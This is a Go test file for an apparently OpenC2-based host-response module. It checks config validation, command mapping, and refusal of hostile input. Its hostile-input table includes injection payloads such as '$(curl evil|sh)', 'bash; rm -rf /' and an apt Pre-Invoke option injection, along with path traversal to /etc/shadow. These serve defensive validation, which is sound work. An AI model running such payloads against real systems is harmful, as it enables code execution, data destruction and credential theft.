package hostops

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/riposte-soar/riposte/openc2"
)

func TestNewRefusesBadConfig(t *testing.T) {
	dir := t.TempDir()
	cases := []struct {
		name string
		cfg  Config
		want string
	}{
		{"relative data_dir", Config{DataDir: "data"}, "data_dir"},
		{"remediation name", Config{DataDir: dir, Remediations: map[string][]string{"Fix It": {"/bin/true"}}}, "remediations"},
		{"remediation relative argv", Config{DataDir: dir, Remediations: map[string][]string{"fix": {"true"}}}, "remediations.fix[0]"},
		{"remediation empty argv", Config{DataDir: dir, Remediations: map[string][]string{"fix": {}}}, "remediations.fix: empty argv"},
		{"service manager", Config{DataDir: dir, ServiceManager: "upstart"}, "service_manager"},
		{"service name", Config{DataDir: dir, Services: []string{"a;b"}}, "services[0]"},
		{"exec service without definition", Config{DataDir: dir, ServiceManager: "exec", Services: []string{"web"}}, "services[0]: \"web\" has no exec_services entry"},
		{"exec service relative pid file", Config{DataDir: dir, ServiceManager: "exec",
			ExecServices: map[string]ExecService{"web": {Start: []string{"/bin/true"}, PIDFile: "web.pid"}}}, "exec_services.web.pid_file"},
		{"relative config file", Config{DataDir: dir, ConfigFiles: []string{"etc/x"}}, "config_files[0]"},
		{"relative log file", Config{DataDir: dir, LogFiles: []string{"x.log"}}, "log_files[0]"},
		{"relative evidence path", Config{DataDir: dir, EvidencePaths: []string{"tmp"}}, "evidence_paths[0]"},
		{"relative account root", Config{DataDir: dir, AccountRoot: "chroot"}, "account_root"},
		{"package manager", Config{DataDir: dir, PackageManager: "pacman"}, "package_manager"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := New(tc.cfg)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("New: %v, want an error naming %q", err, tc.want)
			}
		})
	}
}

func TestNewCreatesPrivateDataDir(t *testing.T) {
	h := newHost(t, nil)
	for _, sub := range []string{"", "quarantine", "config-backups", "accounts", "services", "evidence"} {
		st, err := os.Stat(filepath.Join(h.cfg.DataDir, sub))
		if err != nil || st.Mode().Perm() != 0o700 {
			t.Fatalf("%s: %v %v", sub, st.Mode(), err)
		}
	}
}

// samples holds one valid command per handled pair.
var samples = map[string]string{
	"stop process":                        `{"action":"stop","target":{"process":{"pid":4242,"name":"nc"}}}`,
	"stop er:service":                     `{"action":"stop","target":{"er:service":{"name":"nginx"}}}`,
	"stop x-riposte:service":              `{"action":"stop","target":{"x-riposte:service":{"name":"nginx"}}}`,
	"start x-riposte:service":             `{"action":"start","target":{"x-riposte:service":{"name":"nginx"}}}`,
	"restart x-riposte:service":           `{"action":"restart","target":{"x-riposte:service":{"name":"nginx"}}}`,
	"contain file":                        `{"action":"contain","target":{"file":{"path":"/tmp/x","hashes":{"sha256":"` + strings.Repeat("a", 64) + `"}}}}`,
	"delete file":                         `{"action":"delete","target":{"file":{"path":"/tmp/x"}}}`,
	"allow file":                          `{"action":"allow","target":{"file":{"path":"/tmp/x"}}}`,
	"set er:account":                      `{"action":"set","target":{"er:account":{"account_name":"bob"}},"args":{"er":{"account_status":"disabled"},"x-riposte":{"end_sessions":true}}}`,
	"set x-riposte:config_line":           `{"action":"set","target":{"x-riposte:config_line":{"path":"/etc/ssh/sshd_config","key":"PermitRootLogin","value":"no"}}}`,
	"restore x-riposte:config_line":       `{"action":"restore","target":{"x-riposte:config_line":{"path":"/etc/ssh/sshd_config","backup":"20261126T100000Z-0123456789abcdef"}}}`,
	"remediate x-riposte:remediation":     `{"action":"remediate","target":{"x-riposte:remediation":{"name":"rotate-ssh-keys"}}}`,
	"update x-riposte:package":            `{"action":"update","target":{"x-riposte:package":{"name":"openssh-server"}}}`,
	"investigate x-riposte:evidence_file": `{"action":"investigate","target":{"x-riposte:evidence_file":{"path":"/var/www/shell.php"}}}`,
	"investigate x-riposte:processes":     `{"action":"investigate","target":{"x-riposte:processes":{}}}`,
	"investigate x-riposte:connections":   `{"action":"investigate","target":{"x-riposte:connections":{}}}`,
	"investigate x-riposte:log_lines":     `{"action":"investigate","target":{"x-riposte:log_lines":{"path":"/var/log/auth.log","lines":200}}}`,
}

// TestMappingIsValidOpenC2 proves every handled pair has a command the
// OpenC2 validator accepts and that README.md documents it.
func TestMappingIsValidOpenC2(t *testing.T) {
	readme, err := os.ReadFile("README.md")
	if err != nil {
		t.Fatal(err)
	}
	var pairs []string
	for a, ts := range newHost(t, nil).Pairs() {
		for _, tg := range ts {
			pairs = append(pairs, a+" "+tg)
		}
	}
	sort.Strings(pairs)
	if len(pairs) != len(samples) {
		t.Errorf("%d pairs handled, %d samples", len(pairs), len(samples))
	}
	for _, p := range pairs {
		s, ok := samples[p]
		if !ok {
			t.Errorf("no sample for %s", p)
			continue
		}
		if err := openc2.ValidateCommand([]byte(s)); err != nil {
			t.Errorf("%s: sample refused by openc2: %v", p, err)
		}
		if !strings.Contains(string(readme), "`"+p+"`") {
			t.Errorf("README.md does not document `%s`", p)
		}
	}
}

func TestUnsupportedAndArgs(t *testing.T) {
	h := newHost(t, nil)
	cases := []struct {
		name, cmd string
		status    int
		want      string
	}{
		{"deny file (execution prevention)", `{"action":"deny","target":{"file":{"path":"/tmp/x"}}}`, 501, "Target not supported"},
		{"contain device is the firewall's", `{"action":"contain","target":{"device":{"hostname":"h"}},"args":{"er":{"device_containment":"network_isolation"}}}`, 501, "Target not supported"},
		{"delete er:service", `{"action":"delete","target":{"er:service":{"name":"x"}}}`, 501, "Target not supported"},
		{"duration", `{"action":"stop","target":{"process":{"pid":4242}},"args":{"duration":1000}}`, 501, "args.stop_time/duration"},
		{"future start", `{"action":"stop","target":{"process":{"pid":4242}},"args":{"start_time":99999999999999}}`, 501, "args.start_time"},
		{"unknown extension args", `{"action":"stop","target":{"process":{"pid":4242}},"args":{"x-acme":{"a":1}}}`, 501, "args.x-acme"},
		{"unknown x-riposte arg", `{"action":"stop","target":{"process":{"pid":4242}},"args":{"x-riposte":{"exec":"/bin/sh"}}}`, 400, "args.x-riposte.exec"},
		{"er arg for another pair", `{"action":"set","target":{"er:account":{"account_name":"bob"}},"args":{"er":{"periodic_scan":"enabled"}}}`, 501, "args.er.periodic_scan"},
		{"invalid OpenC2", `{"action":"stop","target":{"process":{}}}`, 400, "openc2: target.process"},
		{"unknown target field", `{"action":"update","target":{"x-riposte:package":{"name":"bash","version":"1.0"}}}`, 400, "unknown field \"version\""},
		{"target not an object", `{"action":"update","target":{"x-riposte:package":"bash"}}`, 400, "target.x-riposte:package"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			expect(t, handle(t, h, tc.cmd), tc.status, tc.want)
		})
	}
	out := h.Handle(context.Background(), nil, Meta{})
	expect(t, out, 400, "command: missing")
}

// TestHostileInputs sends injection, traversal, template and oversized
// values in every field a command controls and proves each is refused
// with the field named, nothing ran and nothing was written.
func TestHostileInputs(t *testing.T) {
	root := t.TempDir()
	canary := filepath.Join(root, "canary")
	qdir := filepath.Join(root, "q")
	cfgFile := filepath.Join(root, "etc", "app.conf")
	logFile := filepath.Join(root, "app.log")
	for _, d := range []string{canary, qdir, filepath.Dir(cfgFile)} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	victim := filepath.Join(root, "victim")
	for p, c := range map[string]string{cfgFile: "PermitRootLogin yes\n", logFile: "a\nb\n", victim: "keep me\n",
		filepath.Join(qdir, "evil"): "malware"} {
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(root, filepath.Join(qdir, "link")); err != nil {
		t.Fatal(err)
	}
	h := newHost(t, func(c *Config) {
		c.Remediations = map[string][]string{"fix": helperArgv(t, "touch", filepath.Join(canary, "fix-ran"))}
		c.ServiceManager = "exec"
		c.Services = []string{"web"}
		c.ExecServices = map[string]ExecService{"web": {Start: helperArgv(t, "touch", filepath.Join(canary, "web-ran")), PIDFile: filepath.Join(root, "web.pid")}}
		c.ConfigFiles = []string{cfgFile}
		c.LogFiles = []string{logFile}
		c.QuarantinePaths = []string{qdir}
		c.EvidencePaths = []string{qdir}
		c.PackageManager = "apt"
	})
	before := tree(t, root)
	big := strings.Repeat("A", 5000)
	huge := strings.Repeat("A", 70000)
	cfg := func(fields string) string {
		return `{"action":"set","target":{"x-riposte:config_line":{"path":"` + cfgFile + `",` + fields + `}}}`
	}
	rem := func(name string) string {
		b, _ := json.Marshal(name)
		return `{"action":"remediate","target":{"x-riposte:remediation":{"name":` + string(b) + `}}}`
	}
	cases := []struct {
		name, cmd string
		status    int
		field     string
		meta      *Meta
	}{
		{"remediation shell", rem("fix; touch " + canary + "/x"), 400, "target.x-riposte:remediation.name", nil},
		{"remediation subshell", rem("$(id)"), 400, "target.x-riposte:remediation.name", nil},
		{"remediation template", rem("{{ inputs.name }}"), 400, "target.x-riposte:remediation.name", nil},
		{"remediation traversal", rem("../fix"), 400, "target.x-riposte:remediation.name", nil},
		{"remediation option", rem("-rf"), 400, "target.x-riposte:remediation.name", nil},
		{"remediation newline", rem("fix\nfix"), 400, "target.x-riposte:remediation.name", nil},
		{"remediation huge", rem(huge), 400, "target.x-riposte:remediation", nil},
		{"remediation not configured", rem("reboot"), 403, "target.x-riposte:remediation.name", nil},
		{"remediation extra args", `{"action":"remediate","target":{"x-riposte:remediation":{"name":"fix","argv":["-x"]}}}`, 400, "target.x-riposte:remediation", nil},
		{"package shell", `{"action":"update","target":{"x-riposte:package":{"name":"bash; rm -rf /"}}}`, 400, "target.x-riposte:package.name", nil},
		{"package apt option", `{"action":"update","target":{"x-riposte:package":{"name":"-oAPT::Update::Pre-Invoke::=/bin/sh"}}}`, 400, "target.x-riposte:package.name", nil},
		{"package glob", `{"action":"update","target":{"x-riposte:package":{"name":"openssh*"}}}`, 400, "target.x-riposte:package.name", nil},
		{"package template", `{"action":"update","target":{"x-riposte:package":{"name":"{{pkg}}"}}}`, 400, "target.x-riposte:package.name", nil},
		{"service shell", `{"action":"stop","target":{"er:service":{"name":"web;reboot"}}}`, 400, "target.er:service.name", nil},
		{"service option", `{"action":"start","target":{"x-riposte:service":{"name":"--now"}}}`, 400, "target.x-riposte:service.name", nil},
		{"service not allowed", `{"action":"start","target":{"x-riposte:service":{"name":"cron"}}}`, 403, "target.x-riposte:service.name", nil},
		{"service huge", `{"action":"start","target":{"x-riposte:service":{"name":"` + big + `"}}}`, 400, "target.x-riposte:service.name", nil},
		{"account backtick", `{"action":"set","target":{"er:account":{"account_name":"bob` + "`id`" + `"}},"args":{"er":{"account_status":"disabled"}}}`, 400, "target.er:account.account_name", nil},
		{"account option", `{"action":"set","target":{"er:account":{"account_name":"-o"}},"args":{"er":{"account_status":"disabled"}}}`, 400, "target.er:account.account_name", nil},
		{"account uid", `{"action":"set","target":{"er:account":{"uid":"0 OR 1"}},"args":{"er":{"account_status":"disabled"}}}`, 400, "target.er:account.uid", nil},
		{"account protected", `{"action":"set","target":{"er:account":{"account_name":"root"}},"args":{"er":{"account_status":"disabled"}}}`, 403, "target.er:account", nil},
		{"quarantine relative", `{"action":"contain","target":{"file":{"path":"../../etc/shadow"}}}`, 400, "target.file.path", nil},
		{"quarantine traversal", `{"action":"contain","target":{"file":{"path":"` + qdir + `/../victim"}}}`, 400, "target.file.path", nil},
		{"quarantine metachar", `{"action":"contain","target":{"file":{"path":"` + qdir + `/evil;rm"}}}`, 400, "target.file.path", nil},
		{"quarantine outside allowlist", `{"action":"contain","target":{"file":{"path":"` + victim + `"}}}`, 403, "target.file.path", nil},
		{"quarantine data dir", `{"action":"contain","target":{"file":{"path":"` + h.cfg.DataDir + `/quarantine"}}}`, 403, "target.file.path", nil},
		{"quarantine proc", `{"action":"delete","target":{"file":{"path":"/proc/self/environ"}}}`, 403, "target.file.path", nil},
		{"quarantine through symlink", `{"action":"contain","target":{"file":{"path":"` + qdir + `/link/victim"}}}`, 403, "symbolic link", nil},
		{"quarantine template", `{"action":"contain","target":{"file":{"path":"/tmp/{{file}}"}}}`, 400, "target.file.path", nil},
		{"restore traversal", `{"action":"allow","target":{"file":{"path":"` + qdir + `/../../etc/cron.d/x"}}}`, 400, "target.file.path", nil},
		{"config value shell", cfg(`"key":"PermitRootLogin","value":"no; reboot"`), 400, "target.x-riposte:config_line.value", nil},
		{"config value subshell", cfg(`"key":"PermitRootLogin","value":"$(curl evil|sh)"`), 400, "target.x-riposte:config_line.value", nil},
		{"config value template", cfg(`"key":"PermitRootLogin","value":"{{ .Value }}"`), 400, "target.x-riposte:config_line.value", nil},
		{"config value newline", cfg(`"key":"PermitRootLogin","value":"no\nPermitEmptyPasswords yes"`), 400, "target.x-riposte:config_line.value", nil},
		{"config value huge", cfg(`"key":"PermitRootLogin","value":"` + big + `"`), 400, "target.x-riposte:config_line.value", nil},
		{"config key", cfg(`"key":"Permit Root","value":"no"`), 400, "target.x-riposte:config_line.key", nil},
		{"config key traversal", cfg(`"key":"../x","value":"no"`), 400, "target.x-riposte:config_line.key", nil},
		{"config line shell", cfg(`"match":"PermitRootLogin yes","line":"PermitRootLogin no && reboot"`), 400, "target.x-riposte:config_line.line", nil},
		{"config path not allowed", `{"action":"set","target":{"x-riposte:config_line":{"path":"` + victim + `","key":"a","value":"b"}}}`, 403, "target.x-riposte:config_line.path", nil},
		{"config path traversal", `{"action":"set","target":{"x-riposte:config_line":{"path":"` + cfgFile + `/../../victim","key":"a","value":"b"}}}`, 400, "target.x-riposte:config_line.path", nil},
		{"config backup traversal", `{"action":"restore","target":{"x-riposte:config_line":{"path":"` + cfgFile + `","backup":"../../../etc"}}}`, 400, "target.x-riposte:config_line.backup", nil},
		{"log path not allowed", `{"action":"investigate","target":{"x-riposte:log_lines":{"path":"/etc/shadow"}}}`, 403, "target.x-riposte:log_lines.path", nil},
		{"log lines huge", `{"action":"investigate","target":{"x-riposte:log_lines":{"path":"` + logFile + `","lines":1000000000000}}}`, 400, "target.x-riposte:log_lines.lines", nil},
		{"evidence outside allowlist", `{"action":"investigate","target":{"x-riposte:evidence_file":{"path":"` + victim + `"}}}`, 403, "target.x-riposte:evidence_file.path", nil},
		{"evidence command id traversal", `{"action":"investigate","target":{"x-riposte:processes":{}}}`, 400, "meta.command_id", &Meta{CommandID: "../../x"}},
		{"evidence command id shell", `{"action":"investigate","target":{"x-riposte:processes":{}}}`, 400, "meta.command_id", &Meta{CommandID: "x;reboot"}},
		{"process name template", `{"action":"stop","target":{"process":{"pid":4242,"name":"{{proc}}"}}}`, 400, "target.process.name", nil},
		{"process pid huge", `{"action":"stop","target":{"process":{"pid":99999999999}}}`, 400, "target.process.pid", nil},
		{"process pid negative", `{"action":"stop","target":{"process":{"pid":-1}}}`, 400, "target.process.pid", nil},
		{"process cwd traversal", `{"action":"stop","target":{"process":{"pid":4242,"cwd":"/tmp/../etc"}}}`, 400, "target.process.cwd", nil},
		{"x-riposte arg", `{"action":"stop","target":{"process":{"pid":4242}},"args":{"x-riposte":{"grace_ms":"$(id)"}}}`, 400, "args.x-riposte.grace_ms", nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			m := meta("hostile-1")
			if tc.meta != nil {
				m = *tc.meta
			}
			out := h.Handle(context.Background(), command(t, tc.cmd), m)
			expect(t, out, tc.status, tc.field)
		})
	}
	if after := tree(t, root); after != before {
		t.Fatalf("refused commands changed the file system:\nbefore:\n%s\nafter:\n%s", before, after)
	}
	if ents, _ := os.ReadDir(canary); len(ents) > 0 {
		t.Fatalf("a refused command ran a program: %v", ents)
	}
}

func TestHandleSurvivesGarbage(t *testing.T) {
	h := newHost(t, nil)
	for _, c := range []*openc2.Command{
		{},
		{Action: "stop"},
		{Action: "stop", Target: openc2.Target{Name: "process"}},
		{Action: "stop", Target: openc2.Target{Name: "process", Value: json.RawMessage(`{"pid":"x"}`)}},
		{Action: "investigate", Target: openc2.Target{Name: "x-riposte:log_lines", Value: json.RawMessage(`null`)}},
		{Action: "set", Target: openc2.Target{Name: "er:account", Value: json.RawMessage(`{"account_name":"bob"}`)}, Args: &openc2.Args{}},
	} {
		out := h.Handle(context.Background(), c, Meta{})
		if out.Response.Status < 400 {
			t.Errorf("%+v: status %d", c, out.Response.Status)
		}
	}
}
